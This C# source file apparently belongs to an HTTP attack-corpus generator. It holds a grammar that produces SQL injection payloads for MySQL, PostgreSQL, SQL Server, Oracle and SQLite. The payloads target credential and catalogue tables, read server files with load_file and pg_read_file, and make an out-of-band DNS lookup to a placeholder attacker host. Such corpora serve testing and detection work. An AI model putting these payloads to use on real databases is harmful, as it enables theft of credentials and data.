namespace Weir.Http.Corpus.Attacks;

/// <summary>Names, columns, tables and functions of the databases.</summary>
/// <remarks>The catalogues of MySQL, PostgreSQL, SQL Server, Oracle, SQLite.</remarks>
internal static class SqliNames
{
    public const string Text = """"
        ¶ ---- names, columns, tables, functions ----
        §ident
        3× id
        2× «username¦password¦user¦pass¦email¦name¦user_id¦login¦uname¦user_name¦passwd¦userid¦title¦price¦1»
        «word»
        «letter»
        «table».«col»
        §col
        3× «password¦username¦user¦pass¦email¦login¦name¦id»
        2× «table_name¦column_name¦schema_name¦table_schema¦passwd¦pwd¦credit_card¦ssn¦hash¦token¦admin_pass¦user_login¦user_pass¦authentication_string¦sql¦owner¦usename»
        *
        «rand»
        §table
        4× users
        2× «admin¦user¦accounts¦members¦customers¦login¦administrators¦mysql.user¦wp_users¦tbl_user¦employees¦orders¦products»
        3× information_schema.«tables¦columns¦schemata¦processlist»
        «sysobjects¦syscolumns¦sys.tables¦sys.databases¦master..sysdatabases¦master..sysobjects¦msysobjects¦sqlite_master¦sqlite_schema¦pg_tables¦pg_user¦pg_shadow¦pg_catalog.pg_tables¦pg_database¦dual¦all_tables¦all_users¦user_tables¦v$version¦sys.user$¦all_tab_columns¦dba_users¦sysmaster:systables¦rdb$database¦sysibm.sysdummy1¦syscat.tables¦mysql.db¦performance_schema.threads»
        «rand»
        INFORMATION_SCHEMA.«TABLES¦COLUMNS¦PLUGINS¦COLLATIONS¦CHARACTER_SETS»
        §sysvar
        «version¦hostname¦datadir¦basedir¦servername¦language¦spid¦version_compile_os¦global.secure_file_priv¦tmpdir»
        §scalarfn
        4× version()
        4× user()
        4× database()
        3× @@version
        «current_user¦current_user()¦system_user()¦session_user()¦schema()¦@@«sysvar»¦user_name()¦db_name()¦db_name(«#0-20»)¦host_name()¦sqlite_version()¦current_database()¦current_schema()¦inet_server_addr()¦sys_context('userenv','current_user')¦banner¦suser_sname()¦connection_id()¦pg_backend_pid()¦VERSION()¦DATABASE()¦USER()¦CURRENT_USER¦is_srvrolemember('sysadmin')¦load_file('«unixfile»')¦load_file(0x«unixfile→hex»)¦pg_read_file('«unixfile»')¦utl_inaddr.get_host_address('«evilhost»')¦pg_ls_dir('/')¦random()¦crc32(«num»)¦md5(«num»)¦unhex(hex(«num»))¦last_insert_rowid()»
        §hexlit
        3× 0x«rand→hex»
        0x«word→hex»
        0x«hexdigit*2-16»
        X'«rand→hex»'
        b'«bit*3-8»'
        §bit
        «0¦1»
        §strexp
        3× '«word»'
        2× «hexlit»
        char(«rand→codes»)
        CHAR(«rand→codes»)
        «chrseq»
        concat('«letter*1-3»','«letter*1-3»')
        «'«word→concatsql»'¦unhex('«rand→hex»')¦chr(«#97-122»)||chr(«#97-122»)¦_latin1'«word»'¦N'«word»'¦nchar(«#97-122»)»
        §chrseq
        3× CHR(«#65-122»)||CHR(«#65-122»)||CHR(«#65-122»)
        2× CHAR(«#65-122»)+CHAR(«#65-122»)+CHAR(«#65-122»)
        (CHR(«#65-122»)||CHR(«#65-122»)||CHR(«#65-122»)||CHR(«#65-122»))
        CONCAT(CHAR(«#65-122»),CHAR(«#65-122»))
        §expr
        4× «num»
        2× «ident»
        2× «strexp»
        2× «scalarfn»
        («query1»)
        null
        §limit
        3× limit 1
        3× limit «#0-30»,1
        2× limit 1 offset «#0-30»
        «where rownum=1¦fetch first 1 rows only¦offset «#0-9» rows fetch next 1 rows only¦where id=«num»¦order by «#1-9» desc»
        §query1
        3× select «col» from «table» «limit»
        2× select «scalarfn»
        select count(*) from «table»
        select top 1 «col» from «table»
        select group_concat(«col»«¦,«hexlit»,«col»¦ separator «hexlit»») from «table»
        select concat(«col»,««hexlit»¦':'»,«col») from «table» «limit»
        select distinct «col» from «table»
        select string_agg(«col»,',') from «table»
        select listagg(«col»,',') within group (order by 1) from «table»
        select cast(count(*) as varchar) from «table»
        select ifnull(cast(«col» as char),«hexlit») from «table» «limit»
        select hex(«col») from «table» «limit»
        select table_name from information_schema.tables where table_schema=«database()¦«strexp»» «limit»
        select column_name from information_schema.columns where table_name=«strexp» «limit»
        §querypart
        5× «query1»
        2× select * from «table»«¦ where «cond»»
        select «num»
        select «col» from «table» where «cond»
        select 1 from(select count(*),concat((«query1»),floor(rand(0)*2))x from information_schema.tables group by x)a
        """";
}
